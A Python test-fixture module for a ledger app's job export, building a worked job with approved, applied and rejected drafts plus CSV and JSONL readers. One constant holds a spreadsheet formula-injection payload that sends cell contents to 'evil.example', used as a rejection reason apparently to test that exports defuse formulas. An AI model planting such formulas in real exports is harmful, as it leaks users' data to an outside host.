"""A worked job to export (the screens' buttons and `GET /api/jobs/{id}/export` alike), and readers of
what an export streams. The fixtures are handed on by tests/conftest.py."""

import csv
import io
import json
from decimal import Decimal

import pytest

from ledger.actions.applying import apply_item
from ledger.actions.collecting import poll_submission
from ledger.actions.reviewing import approve_version, reject_version
from ledger.actions.submitting import plan_submissions, send_submission
from ledger.models import Item, Submission
from ledger.states import ItemState, SubmissionState
from tests.factories import JobFactory, ProductFactory

RATE = Decimal("0.7890")
SOURCE = "Bank of England daily spot, 4 pm"
EDITED = "An oak board, edited by a person. Forty by twenty-five centimetres."
FORMULA_REASON = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def pounds(settings, tmp_path):
    """A deployment in pounds, with a rate file as SPEC §9 shows it."""
    rates = tmp_path / "rates.json"
    rates.write_text(json.dumps({"source": SOURCE, "per_usd": {"2020-01-01": str(RATE)}}))
    settings.BATCHDESK_CURRENCY = "GBP"
    settings.BATCHDESK_FX_FILE = str(rates)


def collect(clock, submission_id, provider):
    for _ in range(200):
        poll_submission(submission_id, provider=provider)
        if Submission.objects.get(pk=submission_id).state == SubmissionState.COLLECTED:
            return
        clock.advance(ms=50)
    raise AssertionError("never collected")


@pytest.fixture
def worked_job(pounds, clock, emulator, provider, owner):
    """A job whose first unit of four went to the emulator and came back (its unit settled at the rate
    file's rate) and whose second unit was not sent: one draft approved with an edit, one approved and
    applied to the catalogue, one rejected with a formula for a reason, one left for review, and two
    items with no draft yet. Returns the job and its items in id order."""
    job = JobFactory(unit_size=4, owner=owner)
    for _ in range(6):
        product = ProductFactory()
        Item.objects.create(job=job, product=product, source_revision=product.current_revision)
    first, _second = plan_submissions(job.pk)
    send_submission(first, provider=provider)
    collect(clock, first, provider)
    items = list(Item.objects.filter(job=job).order_by("pk"))
    assert [i.state for i in items[:4]] == [ItemState.AWAITING_REVIEW] * 4
    edited, applied, rejected, _waiting = (i.versions.get() for i in items[:4])
    approve_version(
        item_id=edited.item_id,
        version_id=edited.pk,
        version_hash=edited.content_hash,
        approver=owner,
        content=EDITED,
    )
    approve_version(
        item_id=applied.item_id, version_id=applied.pk, version_hash=applied.content_hash, approver=owner
    )
    apply_item(applied.item_id)
    reject_version(item_id=rejected.item_id, version_id=rejected.pk, reviewer=owner, reason=FORMULA_REASON)
    return job, list(Item.objects.filter(job=job).order_by("pk"))


def streamed(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def csv_rows(body: bytes) -> list[dict]:
    assert body.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def jsonl_rows(body: bytes) -> list[dict]:
    return [json.loads(line) for line in body.decode().splitlines()]
